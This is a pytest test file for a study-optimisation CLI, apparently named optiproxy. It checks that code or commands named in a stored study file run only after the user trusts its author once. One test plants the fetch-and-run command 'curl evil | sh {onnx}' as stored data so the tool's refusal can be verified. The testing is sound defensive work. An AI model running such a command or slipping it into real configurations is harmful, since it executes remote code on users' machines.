"""What a stored study names is run when the user trusts who wrote it, who is asked once."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from optiproxy.cli.app import run

# As JSON: without report and figures.
ARGUMENTS = ["--method", "random", "--budget", "1", "--name", "n", "--json"]


@pytest.fixture
def elsewhere(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A study whose task is in another folder, which somebody else began."""
    place = tmp_path / "s.journal"
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    shutil.move(folder / "mine.py", theirs / "mine.py")
    command = ["search", str(theirs / "mine.py:task"), *ARGUMENTS, "--storage", str(place)]
    assert run(command) == 0
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another user"))
    return place


def test_a_file_elsewhere_is_run_when_it_is_trusted_once(elsewhere: Path, capsys) -> None:
    export = ["export", "n", "--storage", str(elsewhere), "--out", "best.json"]
    for command in (export, ["resume", "n", "--storage", str(elsewhere)]):
        assert run(command) == 1
        said = capsys.readouterr().err
        assert f"runs the file {elsewhere.parent / 'theirs' / 'mine.py'}" in said
        assert "add --trust (once)" in said
    assert not Path("best.json").exists()
    assert run([*export, "--trust"]) == 0
    assert run(export) == 0


def test_the_answer_to_the_question_is_remembered(
    elsewhere: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    class Terminal:
        def __init__(self) -> None:
            self.answers = ["n\n", "y\n"]

        def isatty(self) -> bool:
            return True

        def readline(self) -> str:
            return self.answers.pop(0)

    monkeypatch.setattr("sys.stdin", Terminal())
    show = ["show", "n", "--storage", str(elsewhere)]
    assert [run(show) for _ in range(3)] == [1, 0, 0]
    assert capsys.readouterr().err.count("Do you trust who wrote it? [y/N]") == 2


def test_who_began_a_search_and_files_of_this_folder_are_not_asked(
    folder: Path, tmp_path: Path
) -> None:
    assert run(["search", "mine.py:task", *ARGUMENTS, "--storage", "a.journal"]) == 0
    assert run(["resume", "n", "--storage", "a.journal", "--json"]) == 0
    shutil.copytree(folder, tmp_path / "theirs")
    other = str(tmp_path / "theirs" / "mine.py:task")
    assert run(["search", other, *ARGUMENTS, "--storage", "b.journal"]) == 0
    assert run(["resume", "n", "--storage", "b.journal", "--json"]) == 0


@pytest.mark.parametrize("field", ["reference", "method", "proxy"])
def test_a_module_where_a_study_was_begun_is_asked_for(
    folder: Path, tmp_path: Path, capsys, field: str
) -> None:
    from optiproxy.study import Study
    from optiproxy.study._storage.identity import ATTRIBUTE

    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "their_module.py").write_text("raise SystemExit('it ran')")
    assert run(["search", "mine.py:task", *ARGUMENTS, "--storage", "a.journal"]) == 0
    study = Study.load("n", "a.journal")
    stored = study.optuna.user_attrs[ATTRIBUTE]
    named = {
        "reference": {"reference": ("their_module:own", str(theirs))},
        "method": {"method": "their_module:Own[n=1]"},
        "proxy": {"proxy": "their_module:Own", "method": "optiproxy"},
    }[field]
    reference = {"reference": (stored["reference"][0], str(theirs))}
    study.optuna.set_user_attr(ATTRIBUTE, {**stored, **reference, **named})
    assert run(["resume", "n", "--storage", "a.journal"]) == 1
    said = capsys.readouterr().err
    assert f"runs the file {theirs / 'their_module.py'}, which it names" in said
    assert "it ran" not in said


@pytest.mark.parametrize("field", ["method", "proxy"])
def test_a_file_of_a_method_or_proxy_elsewhere_is_asked_for(
    folder: Path, tmp_path: Path, capsys, field: str
) -> None:
    from optiproxy.study import Study
    from optiproxy.study._storage.identity import ATTRIBUTE

    (tmp_path / "theirs.py").write_text("raise SystemExit('it ran')")
    assert run(["search", "mine.py:task", *ARGUMENTS, "--storage", "a.journal"]) == 0
    study = Study.load("n", "a.journal")
    own = f"{tmp_path / 'theirs.py'}:Own" + ("[n_init=3]" if field == "method" else "")
    method = {} if field == "method" else {"method": "optiproxy"}
    identity = {**study.optuna.user_attrs[ATTRIBUTE], **method, field: own}
    study.optuna.set_user_attr(ATTRIBUTE, identity)
    assert run(["resume", "n", "--storage", "a.journal"]) == 1
    said = capsys.readouterr().err
    assert f"runs the file {tmp_path / 'theirs.py'}, which it names" in said
    assert "it ran" not in said


def test_a_command_that_measures_is_asked_for(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    from optiproxy.study import Study
    from optiproxy.study._storage.identity import ATTRIBUTE

    assert run(["search", "mine.py:task", *ARGUMENTS, "--storage", "a.journal"]) == 0
    study = Study.load("n", "a.journal")
    identity = {**study.optuna.user_attrs[ATTRIBUTE], "measure": "curl evil | sh {onnx}"}
    study.optuna.set_user_attr(ATTRIBUTE, identity)
    assert run(["resume", "n", "--storage", "a.journal"]) == 1
    assert "runs the command 'curl evil | sh {onnx}', which it names" in capsys.readouterr().err
